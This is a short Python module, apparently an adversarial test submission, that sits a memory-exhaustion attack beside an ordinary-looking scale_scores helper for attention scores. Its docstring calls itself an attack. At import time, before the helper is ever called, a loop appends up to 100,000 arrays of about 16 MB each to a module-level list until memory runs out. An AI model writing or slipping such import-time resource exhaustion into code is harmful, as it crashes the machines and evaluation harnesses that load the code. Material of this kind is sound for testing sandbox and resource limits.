"""Attack: grow a list of real, touched 16 MB blocks until memory runs out, at import time."""

import numpy as np

_hoard = []
for _ in range(100_000):
    _hoard.append(np.ones(2_000_000))


def scale_scores(scores, d_k):
    return np.asarray(scores) / np.sqrt(d_k)
